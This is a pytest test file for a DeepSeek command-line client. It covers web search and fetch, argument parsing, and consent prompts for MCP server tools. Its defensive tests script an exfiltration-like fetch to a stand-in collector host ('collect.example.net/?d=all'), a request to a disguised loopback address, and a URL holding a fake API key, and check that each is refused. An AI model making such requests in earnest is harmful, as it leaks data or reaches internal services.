"""The web and the tools of servers from a shell: what is sent, printed and asked for, and what a shell has not."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from deepseek_magic.cli import main
from tests.chat.scripted import call, calling
from tests.faults import FaultServer, document, reply
from tests.terminal import Terminal

URL = "https://example.org/a"
FOUND = document({"results": [{"title": "A \x1b[2Jtitle", "url": URL, "summary": "It is so.", "site_name": "Site"}]})
SEARCH = call("web_search", '{"query": "what is it"}', "s")
SERVERS = Path(__file__).parent / "absent_server.json"
HOSTILE = Path(__file__).parent / "hostile_tools.py"


@pytest.fixture
def here(server: FaultServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> FaultServer:
    for name, value in {"BASE_URL": server.url, "API_KEY": "sk-of-a-test-0000"}.items():
        monkeypatch.setenv(f"DEEPSEEK_{name}", value)
    monkeypatch.setenv("HOME", str(tmp_path))
    return server


def of_the_web(server: FaultServer):
    return [(one.path.rpartition("/")[2], one.json) for one in server.requests if "/tools/" in one.path]


def test_a_question_that_searches(here, capsys):
    """The answer alone goes to standard output; what it cites is told beside it."""
    here.enqueue(calling(SEARCH), FOUND, reply("It is so [1]."))
    assert main(["ask", "--web", "What", "is it?"]) == 0
    assert here.requests[0].json["messages"][-1]["content"] == "What is it?"
    assert of_the_web(here) == [("search", {"query": "what is it", "count": 8})]
    out, err = capsys.readouterr()
    assert out == "It is so [1].\n"
    assert err == f"[1] A \\x1b[2Jtitle: {URL}\n"


def test_an_address_that_nobody_named_is_refused_where_nobody_is(here, capsys):
    leak = call("web_fetch", '{"url": "https://collect.example.net/?d=all"}', "f")
    here.enqueue(calling(leak), reply("No."))
    assert main(["ask", "--web=3", "--", "--web", "is", "what?"]) == 0
    assert of_the_web(here) == []
    assert here.requests[0].json["messages"][-1]["content"] == "--web is what?"
    assert "did not allow it" in here.requests[1].json["messages"][-1]["content"]


def test_search_and_fetch(here, capsys):
    here.enqueue(FOUND, document({"title": "T", "content": "# Text\x07"}))
    assert main(["search", "-n", "2", "some", "words"]) == 0
    assert main(["fetch", URL]) == 0
    assert of_the_web(here) == [("search", {"query": "some words", "count": 2}), ("fetch", {"url": URL})]
    out, err = capsys.readouterr()
    assert out == f"[1] A \\x1b[2Jtitle\n    {URL}\n    Site, example.org\n    It is so.\n# Text\\x07\n"
    assert err == ""


@pytest.mark.parametrize(
    ("words", "query", "count"),
    [
        (["moon", "-mars"], "moon -mars", 10),
        (["moon", "-nasa", "-n5"], "moon -nasa", 5),
        (["-nasa", "-n", "5", "moon"], "-nasa moon", 5),
        (["a", "-n=5", "b", "--", "--c", "-n"], "a b --c -n", 5),
        (["moon", "--profile=", "tides"], "moon tides", 10),
    ],
)
def test_words_of_a_search_with_a_dash(here, words, query, count):
    here.enqueue(FOUND)
    assert main(["search", *words]) == 0
    assert of_the_web(here) == [("search", {"query": query, "count": count})]


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["ask", "--web", "3", "Which rivers?"], "--web 3: write --web=3; put -- before a question that begins with 3"),
        (["ask", "a", "-m", "b", "c"], "one word too many: 'c'"),
        (["fetch", "a", "b"], "one word too many: 'b'"),
        (["search", "--of", "x"], "unknown option --of: -h lists them"),
    ],
)
def test_what_a_command_does_not_take(here, capsys, words, said):
    with pytest.raises(SystemExit):
        main(words)
    assert capsys.readouterr().err.startswith(f"deepseek-magic: {said}")
    assert not here.requests


def test_a_number_of_the_question_is_none_of_an_option(here):
    here.enqueue(reply("Yes."))
    assert main(["ask", "--web", "--", "3", "rivers?"]) == 0
    assert here.requests[0].json["messages"][-1]["content"] == "3 rivers?"


def test_the_help_shows_how_an_option_takes_its_value(capsys):
    with pytest.raises(SystemExit):
        main(["ask", "-h"])
    shown = capsys.readouterr().out
    assert "[--web[=N]]" in shown
    assert "\n  --web[=N] " in shown
    assert "--web N" not in shown


def test_the_help_lists_what_a_shell_has(capsys):
    """And nothing of a notebook's."""
    with pytest.raises(SystemExit):
        main(["ask", "-h"])
    shown = " ".join(capsys.readouterr().out.split())
    # Python 3.13 names the value once for both spellings
    assert "-c SPEC file:PATH, what goes along" in shown
    assert "--chat NAME go on in the conversation of this name" in shown
    for word in ("cells", "notebook", "vars", "%"):
        assert word not in shown


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["search", "-n", "99", "x"], "-n: expected a whole number from 1 to 50, found '99'"),
        (["search", "-n", "abc", "x"], "-n: expected a whole number from 1 to 50, found 'abc'"),
        (["ask", "--mcp", str(SERVERS), "--tools", "mcp:x", "x"], "is configured (the file of --mcp): mcp:absent"),
        (
            ["ask", "--mcp", str(SERVERS), "--tools", "mcp:absent", "x"],
            ": check the file of --mcp\n",
        ),
        (["fetch", "http://[::ffff:127.0.0.1]/"], "is not a host of the public web"),
        (
            ["fetch", "https://example.org/?key=sk-0123456789abcdef0123456789abcdef"],
            "looks like a secret (DeepSeek key): give the address without it\n",
        ),
        (
            ["search", "--base-url", "ollama", "x"],
            "deepseek-magic: search: localhost:11434 has no web search, as DeepSeek's own endpoint has\n",
        ),
        (["ask", "--tools", "run", "x"], "--tools run: a shell has no notebook, and offers only tools of servers"),
        (["ask", "--tools", "mcp:h", "x"], "--tools mcp:h: name the file that configures the server by --mcp FILE"),
        (["ask", "--yes", "x"], "--yes goes with --tools mcp:NAME"),
        (["ask", "--mcp", "f.json", "x"], "--mcp goes with --tools mcp:NAME"),
        (["ask", "--mcp", "no.json", "--tools", "mcp:h", "x"], "--mcp: no.json cannot be read (No such file"),
    ],
)
def test_what_a_shell_has_not_is_said_on_one_line(here, capsys, words, said):
    assert main(words) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert said in err
    assert err.count("\n") == 1
    assert "%" not in err
    assert not here.requests


@pytest.fixture
def configured(tmp_path: Path) -> Path:
    file = tmp_path / "mcp.json"
    file.write_text(
        json.dumps({"mcpServers": {"h": {"command": sys.executable, "args": [str(HOSTILE), str(tmp_path)]}}})
    )
    return file


@pytest.mark.kernel
@pytest.mark.parametrize("yes", [True, False])
def test_tools_of_a_server_where_nobody_can_be_asked(here, configured, capsys, yes):
    here.enqueue(calling(call("mcp_h_echo", '{"text": "a"}', "a")), reply("Done."))
    assert main(["ask", "--mcp", str(configured), "--tools", "mcp:h.echo", *(["--yes"] if yes else []), "Go"]) == 0
    result = here.requests[1].json["messages"][-1]["content"]
    assert ('echo: {"text": "a"}' if yes else "the user did not allow this call") in result
    assert [tool["function"]["name"] for tool in here.requests[0].json["tools"]] == ["mcp_h_echo"]
    assert capsys.readouterr().out == "Done.\n"


@pytest.mark.kernel
def test_in_a_terminal_a_call_is_asked_for(here, configured, tmp_path):
    here.enqueue(calling(call("mcp_h_echo", '{"text": "a"}', "a")), reply("Done."))
    words = ("ask", "--mcp", str(configured), "--tools", "mcp:h.echo", "Go")
    terminal = Terminal(tmp_path, here, "-m", "deepseek_magic", *words)
    terminal.expect(r"The model wants to call mcp_h_echo\(text='a'\), a tool of mcp:h\. Call it\? \[y/N\] ")
    terminal.child.sendline("y")
    assert "Done." in terminal.end()
    assert 'echo: {"text": "a"}' in here.requests[1].json["messages"][-1]["content"]
